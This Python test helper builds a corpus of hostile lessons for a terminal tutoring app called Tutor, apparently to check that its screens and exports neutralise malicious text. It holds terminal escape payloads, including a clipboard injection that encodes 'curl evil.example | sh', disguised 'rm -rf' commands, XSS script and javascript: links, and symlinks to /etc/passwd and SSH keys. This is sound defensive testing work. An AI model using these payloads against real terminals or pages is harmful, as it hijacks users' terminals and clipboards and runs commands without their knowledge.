"""A generated corpus of hostile lessons: text that tries to act on the terminal or on Tutor.

Each kind is one payload (markup actions, escape sequences, controls, bidi overrides, links
with dangerous schemes, raw HTML, huge fields, …). `hostile_lesson(kind)` puts its payload in
every text field of an otherwise valid lesson (title, summary, task, step texts, criteria,
commands, paths, outputs, annotations, ask prompts, options, key points, tags), so the lesson
opens and each field reaches its screen and printer. A few kinds cannot be valid and are
written as they are, for `tutor validate` and the library's broken rows (a lone surrogate, a
lesson too large to read, a folder name with escapes).

Nothing here is a case list for the code under test: the boundary is structural, and the
corpus only has to reach every path with something hostile.
"""

from __future__ import annotations

import json
from pathlib import Path

# Where a click-action payload would write (app.screenshot's folder) if it ever ran.
CLICK_TARGET = "{outside}"

PAYLOADS: dict[str, str] = {
    "markup-action": "[@click=app.screenshot('pwned.svg','{outside}')]CLICKME[/]",
    "markup-close": "before [/] after",
    "markup-open": "[b unclosed [bold",
    "honest-dict": "Use dict[str, int]",
    "honest-path": "Serve uploads from [/tmp]",
    "rich-link": "[link=file:///etc/passwd]open me[/link]",
    "markup-style": "[reverse blink]shout[/] [red on red]hidden",
    "osc52-clipboard": "text\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07more",
    "osc0-title": "text\x1b]0;PWNED-TITLE\x07more",
    "osc8-link": "\x1b]8;;file:///etc/passwd\x1b\\click here\x1b]8;;\x1b\\",
    "osc-unterminated": "start\x1b]52;c;Y3VybCBldmls",
    "csi-clear": "\x1b[2J\x1b[H\x1b[3Jcleared",
    "csi-cursor": "ok\x1b[10;10Hmoved\x1b[A\x1b[2K\x1b[?1049l",
    "sgr-colour": "\x1b[31;1mred\x1b[0m \x1b[8mconcealed\x1b[28m",
    "c1-csi": "c1\x9b2J\x9b31mred",
    "c1-osc": "c1\x9d0;PWNED-TITLE\x9c",
    "dcs": "dcs\x1bP+q544e\x1b\\done",
    "apc-pm-sos": "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\",
    "bel": "ding\x07ding\x07",
    "backspace-overwrite": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -la   ",
    "cr-overwrite": "rm -rf ~/\rls -la    ",
    "nul-and-controls": "a\x00b\x01c\x1fd\x7fe\x0bf\x0cg",
    "bidi-rlo": "ls \u202etxt.exe\u202c",
    "bidi-isolates": "echo \u2066safe\u2069 \u2067evil\u2069 \u2068x\u2069 \u200f\u200e\u061c",
    "zero-width": "r\u200bm -\u200crf \u200d/\u2060 \ufeff\u00ad",
    "tag-characters": "hello\U000e0041\U000e0042\U000e007f",
    "line-separators": "a\u2028b\u2029c\x85d",
    "emoji-combining": "👩‍👩‍👧 e\u0301\u0301\u0301 Z\u0337\u031b\u0319a\u0338l\u0336g\u0334o 🇺🇳",
    "long-word": "x" * 6000,
    "md-file-link": "[open this](file:///etc/passwd) and ![img](file:///etc/shadow) <file:///etc/hosts>",
    "md-js-link": "[js](javascript:alert(1)) [vb](vbscript:msgbox) [data](data:text/html,<script>alert(1)</script>)",
    "md-custom-scheme": "[run](app.screenshot:x) [quit](tutor:quit) <x-tutor:open> [rel](../../secret)",
    "html-in-markdown": "<img src=x onerror=alert(1)><b>bold</b><iframe src=javascript:alert(1)></iframe>",
    "script": "<script>alert('xss')</script></title><script>alert(2)</script>",
    "deep-markdown": "> " * 60 + "deep\n\n" + "".join("  " * depth + "- item\n" for depth in range(60)) + "*" * 200,
    "ansi-in-code": "```\n\x1b]52;c;ZXZpbA==\x07\x1b[2J\n```\n`\x1b]0;T\x07`",
    "backtick-fence": "````\n``` ` `` ```` inner\n````",
    # Character references the Markdown parser decodes after cleaning: a bidi override, marks, CR, FF.
    "html-entities": "A &#x202E;RLO&#x202C;Z &rlm;&lrm;&#x2067; &#13;CR &#12;FF &#x1b;]0;T&#7; &amp; kept",
    # What another Markdown renderer (raw HTML on, any link) would make live in a .md export.
    "md-live-elsewhere": "<img src=x onerror=alert(1)> </details> [js](javascript:alert(1)) ![i](file:///etc/passwd)\n\n[r]: javascript:boom",
    "backticks-and-invisibles": "echo `id` ``x`` a\u200bb\u00adc",
}

# Kinds that cannot be a valid lesson, written as they are (`tutor validate` and the library see them).
BROKEN_KINDS = ("lone-surrogate", "too-large", "folder-escape", "bad-id-markup")

# The 20 MB one-line task of the issue is larger than a lesson may be (limits.MAX_LESSON_BYTES,
# 16 MB) and is refused whole; a task just under that opens, and must show cut.
HUGE_TASK_CHARS = 12_000_000
TOO_LARGE_CHARS = 20_000_000
MANY_LINES = 100_000


def _text(kind: str, payload: str, field: str) -> str:
    return f"{field} ({kind}): {payload}"


def hostile_lesson(kind: str, payload: str | None = None, *, outside: str = "/tmp/outside") -> dict:
    """A valid lesson with `kind`'s payload in every text field."""
    payload = (PAYLOADS[kind] if payload is None else payload).replace(CLICK_TARGET, outside)
    slug = "hostile-" + "".join(ch if ch.isalnum() else "-" for ch in kind.lower()).strip("-")

    def t(field: str) -> str:
        return _text(kind, payload, field)

    return {
        "format": "tutor.lesson/1",
        "id": slug,
        "title": t("title")[:300],
        "summary": t("summary"),
        "author": t("author")[:200],
        "created": "2026-11-24T10:00:00Z",
        "level": "beginner",
        "minutes": 5,
        "tags": [payload[:60] or "x", "hostile"],
        "origin": "scripted",
        "task": t("task"),
        "steps": [
            {
                "id": "s1",
                "kind": "goal",
                "text": t("goal"),
                "criteria": [t("criterion"), "says when it is done"],
                "annotation": t("annotation"),
                "ask": {"type": "goal", "prompt": t("goal prompt"), "rubric": [t("rubric")]},
            },
            {"id": "s2", "kind": "prompt", "text": t("prompt")},
            {
                "id": "s3",
                "kind": "agent",
                "text": t("agent"),
                "calls": [
                    {"id": "c1", "tool": "run", "input": {"command": f"echo {payload}"}},
                    {"id": "c2", "tool": "edit_file", "input": {"path": f"src/{payload[:80]}.py", "old": t("old"), "new": t("new")}},
                ],
            },
            {
                "id": "s4",
                "kind": "result",
                "call": "c1",
                "ok": False,
                "exit_code": 1,
                "output": t("output") + "\n" + payload + "\nlast line",
                "annotation": t("result note"),
                "ask": {"type": "outcome", "prompt": t("outcome prompt")},
            },
            {"id": "s5", "kind": "agent", "text": t("agent 2"), "calls": [{"id": "c3", "tool": "run", "input": {"command": payload or "true"}}]},
            {
                "id": "s6",
                "kind": "correction",
                "category": "test",
                "text": t("correction"),
                "why": t("why"),
                "ask": {"type": "intervene", "prompt": t("intervene prompt"), "key_points": [t("key point"), "keeps the tests"]},
            },
            {
                "id": "s7",
                "kind": "note",
                "text": t("note"),
                "ask": {"type": "choice", "prompt": t("choice prompt"), "options": [t("option 1"), "a plain option"], "answer": 0, "explain": t("explain")},
            },
        ],
    }


def write_lesson(folder: Path, lesson: dict) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "lesson.json").write_text(json.dumps(lesson, indent=2, ensure_ascii=False), encoding="utf-8", errors="surrogatepass")
    return folder


def _toml_string(text: str) -> str:
    # JSON's escapes are TOML's for every control but DEL, which TOML forbids raw.
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def write_corpus(root: Path, *, outside: str = "/tmp/outside", kinds: list[str] | None = None, extras: bool = True) -> list[Path]:
    """A curriculum of hostile lessons under `root` (one per kind, plus the huge and the broken ones); returns the lesson folders."""
    chosen = list(PAYLOADS) if kinds is None else kinds
    folders = [write_lesson(root / f"k{index:02d}", hostile_lesson(kind, outside=outside)) for index, kind in enumerate(chosen)]
    if extras:
        folders.append(write_lesson(root / "huge-task", huge_task_lesson()))
        folders.append(write_lesson(root / "many-lines", many_lines_lesson()))
        folders.extend(write_broken(root, outside=outside))
    names = [folder.name for folder in folders]
    (root / "curriculum.toml").write_text(
        "title = " + _toml_string("Hostile [@click=app.quit]corpus[/] \x1b]0;PWNED-TITLE\x07 dict[str, int]") + "\n"
        "description = " + _toml_string("Lessons that try to act on the terminal. \x1b]52;c;ZXZpbA==\x07") + "\n"
        "lessons = [" + ", ".join(_toml_string(name) for name in names) + "]\n",
        encoding="utf-8",
    )
    return folders


def huge_task_lesson(chars: int = HUGE_TASK_CHARS) -> dict:
    lesson = hostile_lesson("long-word", "y")
    lesson["id"] = "hostile-huge-task"
    lesson["title"] = "A huge one-line task"
    lesson["task"] = "start " + "z" * chars + " end"
    return lesson


def many_lines_lesson(lines: int = MANY_LINES) -> dict:
    lesson = hostile_lesson("long-word", "y")
    lesson["id"] = "hostile-many-lines"
    lesson["title"] = "A command that printed 100,000 lines"
    lesson["steps"][3]["output"] = "\n".join(f"line {number} \x1b[31mred\x1b[0m" for number in range(lines))
    return lesson


def write_broken(root: Path, *, outside: str = "/tmp/outside") -> list[Path]:
    """The kinds that cannot be valid lessons."""
    folders = []
    surrogate = root / "lone-surrogate"
    surrogate.mkdir(parents=True, exist_ok=True)
    text = json.dumps(hostile_lesson("osc0-title", outside=outside), indent=2, ensure_ascii=False)
    (surrogate / "lesson.json").write_text(text.replace('"task": "', '"task": "\\ud800 \\udfff ', 1), encoding="utf-8")
    folders.append(surrogate)
    large = root / "too-large"
    lesson = hostile_lesson("osc52-clipboard", outside=outside)
    lesson["id"] = "hostile-too-large"
    lesson["task"] = "\x1b]0;PWNED-TITLE\x07" + "w" * TOO_LARGE_CHARS
    folders.append(write_lesson(large, lesson))
    escaped = root / "folder-\x1b]0;PWNED-TITLE\x07-[@click=app.quit]x[b]-\u202eevil"
    lesson = hostile_lesson("markup-close", outside=outside)
    lesson["id"] = "hostile-folder-escape"
    lesson["steps"] = "not a list \x1b]52;c;ZXZpbA==\x07 [/]"  # invalid: its problem quotes the folder
    folders.append(write_lesson(escaped, lesson))
    bad_id = root / "bad-id"
    lesson = hostile_lesson("markup-action", outside=outside)
    lesson["id"] = f"[@click=app.screenshot('x','{outside}')]\x1b]0;PWNED-TITLE\x07"
    folders.append(write_lesson(bad_id, lesson))
    return folders


def kinds() -> list[str]:
    """Every kind of the corpus: the payloads, the huge fields, and the broken ones."""
    return [*PAYLOADS, "huge-task", "many-lines", *BROKEN_KINDS]


HOSTILE_FILE_NAMES = [
    "dict[str, int].py",
    "[@click=app.screenshot('x','{outside}')]CLICKME[b].py",
    "esc\x1b]0;PWNED-TITLE\x07.txt",
    "clip\x1b]52;c;ZXZpbA==\x07.txt",
    "bidi-\u202etxt.exe",
    "zero\u200bwidth.py",
    "[/]",
]


def build_hostile_bundle_lesson(root: Path, *, outside: str = "/tmp/outside") -> Path:
    """A lesson with a real `repo.bundle` whose file names and contents are hostile, for investigate and the reveal's diff."""
    from tests.helpers.bundle_lesson import _commit, _git  # noqa: PLC2701 - the test helpers' own git plumbing

    from tutor.lesson import save_lesson
    from tutor.lesson.validate import check_lesson_data
    from tutor.vcs.bundle import create_bundle

    work = root / "hostile-work"
    work.mkdir(parents=True)
    _git(work, "init", "-q", "-b", "main")
    payload = " ".join(PAYLOADS[kind] for kind in ("osc52-clipboard", "osc0-title", "csi-clear", "c1-csi", "bidi-rlo", "markup-action")).replace(CLICK_TARGET, outside)
    names = [name.replace(CLICK_TARGET, outside.replace("/", "-")) for name in HOSTILE_FILE_NAMES]
    # Links that leave the checkout, as a stranger's lesson may carry them: "shell here" must not materialise them.
    for link, target in (("passwd", "/etc/passwd"), ("ssh-keys", "../../../../../../../root/.ssh"), (f"{names[3]}-link", outside)):
        (work / link).symlink_to(target)
    base = _commit(work, dict.fromkeys(names, f"{payload}\nline two\n"), "seed")
    edit = _commit(work, {names[0]: f"changed {payload}\n", "new\x1b[2J.py": payload + "\n"}, "edit")
    _git(work, "update-ref", "refs/tutor/steps/s4", edit)
    _git(work, "update-ref", "refs/tutor/base", base)
    folder = root / "hostile-bundle"
    folder.mkdir()
    create_bundle(work, folder / "repo.bundle", ["refs/tutor/base", "refs/tutor/steps/s4"])
    data = hostile_lesson("markup-action", payload, outside=outside)
    data["id"] = "hostile-bundle"
    data["repo"] = {"bundle": "repo.bundle", "base": base}
    steps = data["steps"]
    steps[2]["calls"] = [{"id": "c1", "tool": "edit_file", "input": {"path": names[0], "old": payload, "new": "changed " + payload}}]
    steps[3].update({"call": "c1", "commit": edit, "ok": True, "exit_code": 0})
    steps[4]["calls"] = [{"id": "c3", "tool": "run", "input": {"command": payload}}]
    lesson, problems = check_lesson_data(json.loads(json.dumps(data)), "hostile", folder)
    assert lesson is not None and not problems, problems
    save_lesson(lesson, folder)
    return folder
